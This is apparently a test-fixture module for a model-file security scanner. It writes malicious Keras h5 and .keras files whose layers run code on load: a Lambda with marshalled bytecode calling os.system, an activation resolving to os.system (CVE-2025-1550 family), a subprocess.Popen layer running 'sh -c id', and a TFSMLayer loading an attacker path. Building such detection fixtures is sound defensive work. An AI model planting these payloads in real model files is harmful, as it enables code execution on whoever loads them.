"""Keras model files, malicious and their helpers: legacy h5 (``model_config`` attribute)
and Keras 3 ``.keras`` zips (``config.json``), written by hand (TensorFlow/Keras are not
installed). Lambda bytecode is made with ``marshal`` the way Keras' ``func_dump`` does.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.corpus._spec import Marker, Spec, mal

KER_LAMBDA = frozenset({"SCAN-KER-001"})
KER_MODULE = frozenset({"SCAN-KER-002"})
KER_EXTERNAL = frozenset({"SCAN-KER-004"})


def lambda_b64(m: Marker) -> str:
    """Base64 marshalled bytecode of ``lambda x: (os.system(<touch>), x)[1]`` (Keras func_dump)."""
    source = f"lambda x: (__import__('os').system({m.shell!r}), x)[1]"
    code = compile(source, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode("ascii") + "\n"


def dense(name: str, units: int, activation: Any = "relu", *, k3: bool = False) -> dict[str, Any]:
    cfg: dict[str, Any] = {
        "name": name,
        "trainable": True,
        "dtype": "float32",
        "units": units,
        "activation": activation,
        "use_bias": True,
    }
    if not k3:
        return {"class_name": "Dense", "config": cfg}
    # Keras 3 spells dtype policies and initializers as keras-module references.
    cfg["dtype"] = {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }
    cfg["kernel_initializer"] = {
        "module": "keras.initializers",
        "class_name": "GlorotUniform",
        "config": {"seed": None},
        "registered_name": None,
    }
    cfg["bias_initializer"] = {
        "module": "keras.initializers",
        "class_name": "Zeros",
        "config": {},
        "registered_name": None,
    }
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": cfg,
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def keras2_lambda(m: Marker) -> dict[str, Any]:
    return {
        "class_name": "Lambda",
        "config": {
            "name": "preprocess",
            "trainable": True,
            "dtype": "float32",
            "function": [lambda_b64(m), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "arguments": {},
        },
    }


def keras2_sequential(layers: list[dict[str, Any]], name: str = "sequential") -> dict[str, Any]:
    inp = {
        "class_name": "InputLayer",
        "config": {
            "batch_input_shape": [None, 4],
            "dtype": "float32",
            "sparse": False,
            "name": "input_1",
        },
    }
    return {"class_name": "Sequential", "config": {"name": name, "layers": [inp, *layers]}}


def keras2_nested_lambda(m: Marker) -> dict[str, Any]:
    """Lambda inside TimeDistributed inside a Sequential used as a layer of a Sequential."""
    wrapped = {
        "class_name": "TimeDistributed",
        "config": {"name": "td", "trainable": True, "layer": keras2_lambda(m)},
    }
    inner = keras2_sequential([dense("inner_dense", 4), wrapped], name="block")
    return keras2_sequential([dense("dense", 8), inner, dense("head", 2, "softmax")])


def write_keras_h5(path: Path, config: dict[str, Any], *, weights: bool = True) -> None:
    """A legacy Keras h5 file: root attributes plus a ``model_weights`` group."""
    import h5py
    import numpy as np

    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        group = f.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"dense"])
        if weights:
            layer = group.create_group("dense/dense")
            layer.create_dataset("kernel:0", data=np.ones((4, 8), dtype=np.float32))
            layer.create_dataset("bias:0", data=np.zeros(8, dtype=np.float32))


def keras3_zip(config: dict[str, Any], *, weights: bytes = b"") -> bytes:
    """A Keras 3 ``.keras`` archive: config.json, metadata.json and the weights file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
        z.writestr("metadata.json", json.dumps(meta))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights)
    return out.getvalue()


def keras3_sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    inp = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "layers": [inp, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def _keras3_lambda(m: Marker) -> dict[str, Any]:
    fn = {
        "class_name": "__lambda__",
        "config": {"code": lambda_b64(m), "defaults": None, "closure": None},
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {"name": "lambda", "function": fn, "arguments": {}},
    }


def _keras_rows() -> list[Spec]:
    h5 = ("h5py", "numpy")

    def h5_writer(config: Callable[[Marker], dict[str, Any]]) -> Callable[[Path, Marker], None]:
        return lambda path, m: write_keras_h5(path, config(m))

    fn_ref = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "system",
    }
    popen_layer = {
        "module": "subprocess",
        "class_name": "Popen",
        "registered_name": None,
        "config": {"args": ["sh", "-c", "id"]},
    }
    tfsm = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "registered_name": None,
        "config": {
            "name": "tfsm",
            "filepath": "/tmp/attacker/saved_model",
            "call_endpoint": "serve",
            "trainable": False,
        },
    }
    return [
        mal(
            "keras/lambda.h5",
            "keras-lambda",
            KER_LAMBDA,
            "legacy h5 model_config with a Lambda layer (marshalled bytecode)",
            write=h5_writer(lambda m: keras2_sequential([dense("d", 8), keras2_lambda(m)])),
            loader="keras-lambda",
            needs=h5,
            quick=True,
        ),
        mal(
            "keras/nested_lambda.h5",
            "keras-lambda",
            KER_LAMBDA,
            "Lambda inside TimeDistributed inside a nested Sequential, legacy h5",
            write=h5_writer(keras2_nested_lambda),
            loader="keras-lambda",
            needs=h5,
        ),
        mal(
            "keras/lambda.keras",
            "keras-lambda",
            KER_LAMBDA,
            "Keras 3 .keras zip whose config.json has a Lambda (__lambda__ bytecode)",
            lambda m: keras3_zip(keras3_sequential([dense("d", 8, k3=True), _keras3_lambda(m)])),
            loader="keras-lambda",
            quick=True,
        ),
        mal(
            "keras/function_reference.keras",
            "keras-module-reference",
            KER_MODULE,
            "Dense activation = {'module': 'os', 'class_name': 'function', 'config': 'system'}"
            " (CVE-2025-1550 family)",
            lambda m: keras3_zip(keras3_sequential([dense("d", 8, fn_ref, k3=True)])),
            quick=True,
        ),
        mal(
            "keras/module_class.keras",
            "keras-module-reference",
            KER_MODULE,
            "a layer whose module is 'subprocess' and class_name 'Popen'",
            lambda m: keras3_zip(keras3_sequential([popen_layer])),
        ),
        mal(
            "keras/tfsmlayer.keras",
            "keras-external-model",
            KER_EXTERNAL,
            "TFSMLayer loading a SavedModel from an attacker-chosen path (bypasses safe_mode)",
            lambda m: keras3_zip(keras3_sequential([tfsm])),
            quick=True,
        ),
    ]


def specs() -> list[Spec]:
    """Every malicious Keras spec."""
    return _keras_rows()
